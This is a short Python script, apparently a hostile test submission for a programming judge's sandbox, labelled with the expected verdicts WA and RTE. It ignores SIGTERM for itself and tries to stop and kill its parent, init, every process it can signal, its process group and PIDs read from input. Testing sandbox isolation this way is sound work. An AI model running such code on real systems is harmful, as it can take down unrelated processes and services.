# WA RTE
import os
import signal

input()
input()
others = [os.getppid(), 1, -1, 0, *map(int, input().split())]
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL:
    for other in others:
        if number is signal.SIGSTOP and other == 0:
            continue
        try:
            os.kill(other, number)
        except OSError:
            pass
